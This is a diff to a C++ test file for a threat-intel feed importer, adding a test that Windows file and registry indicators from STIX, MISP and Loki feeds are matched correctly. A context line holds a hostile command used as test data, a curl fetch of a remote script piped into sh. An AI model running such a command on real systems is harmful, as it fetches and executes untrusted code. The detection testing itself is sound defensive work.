@@ -21,8 +21,10 @@ using testing::Not;
 
 const std::string kHash = crypto::sha256(as_bytes("harmless one")).hex();
 
-std::vector<Indicator> read(Format format, const std::string& text, const std::string& source) {
-  auto result = import_feed(format, text, {.source = source, .now = to_timestamp(test_now())});
+std::vector<Indicator> read(Format format, const std::string& text, const std::string& source,
+                            model::Platform platform = model::Platform::kLinux) {
+  auto result = import_feed(
+      format, text, {.source = source, .now = to_timestamp(test_now()), .platform = platform});
   FS_ASSERT(result.has_value());
   return std::move(result->indicators);
 }
@@ -199,6 +201,55 @@ TEST(ImportedPolicy, TheMatcherFindsAnotherThingThanTheFeedNamed) {
   EXPECT_THAT(found(scan::Object(cron)), ElementsAre("c50_domain_starts"));
   cron.identity.command = "curl -s https://notc2.example.org/x | sh";
   EXPECT_THAT(found(scan::Object(cron)), IsEmpty());
+}
+
+TEST(ImportedPolicy, WhatAFeedSaysAboutWindowsIsNotFoundThere) {
+  std::vector<Indicator> all;
+  for (const auto& [format, source, text] :
+       {std::tuple{Format::kStix, "bundle.json",
+                   R"({"type":"indicator","pattern_type":"stix","pattern":)"
+                   R"("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Evil' AND )"
+                   R"(windows-registry-key:values[*].data = 'C:\\\\evil.exe']"})"},
+        {Format::kMisp, "misp.json",
+         R"({"Attribute":[{"type":"filename","to_ids":true,"value":"C:\\Tools\\evil.exe"}]})"},
+        {Format::kLoki, "filename-iocs.txt", R"(\\Temp\\evil[0-9]\.exe$;80)"}})
+    for (Indicator& one : read(format, text, source, model::Platform::kWindows))
+      all.push_back(std::move(one));
+  PolicyHead windows = head();
+  windows.platform = model::Platform::kWindows;
+  const auto written = write_policy(all, windows);
+  const auto result = compiled(written.yaml);
+  ASSERT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
+  EXPECT_EQ(result.policy.platform, model::Platform::kWindows);
+  const auto matcher = scan::Matcher::compile(result.policy);
+  ASSERT_TRUE(matcher) << matcher.error().message;
+  const auto is_found = [&](const scan::Object& object) {
+    const auto kind = std::holds_alternative<scan::FileFacts>(object)
+                          ? model::ObjectKind::kFile
+                          : model::ObjectKind::kWindowsRegistryKey;
+    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
+      if (result.policy.detections[d].object == kind &&
+          matcher->match(d, object) == scan::Truth::kYes)
+        return true;
+    return false;
+  };
+  const auto file = [](const std::string& path) {
+    scan::FileFacts facts;
+    facts.stage = scan::FileStage::kContent;
+    facts.identity.path = "/disk";
+    facts.aliases = {path};
+    return scan::Object(facts);
+  };
+  EXPECT_TRUE(is_found(file(R"(c:\tools\EVIL.exe)"))) << written.yaml;
+  EXPECT_FALSE(is_found(file(R"(D:\Tools\evil.exe)"))) << written.yaml;
+  EXPECT_TRUE(is_found(file(R"(C:\Windows\Temp\evil7.exe)"))) << written.yaml;
+  EXPECT_FALSE(is_found(file(R"(C:\Windows\Temp\evil.exe)"))) << written.yaml;
+  scan::RegistryFacts value;
+  value.spellings = {R"(HKEY_LOCAL_MACHINE\SOFTWARE\Evil)"};
+  value.identity.data = R"(C:\evil.exe)";
+  EXPECT_TRUE(is_found(scan::Object(value))) << written.yaml;
+  value.identity.data = R"(C:\good.exe)";
+  EXPECT_FALSE(is_found(scan::Object(value))) << written.yaml;
 }
 
 TEST(ImportedPolicy, ANameThatAFeedComparesWithoutCaseIsComparedWithIt) {
